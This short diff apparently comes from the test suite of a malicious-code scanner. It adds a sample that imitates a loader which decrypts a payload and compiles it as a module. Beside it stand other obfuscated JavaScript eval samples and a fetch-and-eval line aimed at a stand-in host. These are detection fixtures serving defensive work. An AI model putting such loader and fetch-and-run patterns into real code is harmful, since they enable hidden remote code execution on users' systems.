@@ -30,6 +30,7 @@ def rules_at(source: str) -> set[tuple[str, str]]:
             "eval(String.fromCharCode(97, 98))",
             "eval('b()a'.split('').reverse().join(''))",
             "const t = ['YWxl', 'cnQoMSk=']; const g = i => t[i - 1]; eval(atob(g(1) + g(2)))",
+            "const m = new module.constructor(); const d = r(x)[y](k); m[n(7)](d.update(b) + d.final(), '')",
         ]),
         ("C3", "high", [
             "fetch('https://example.invalid').then(r => r.text()).then(eval)",
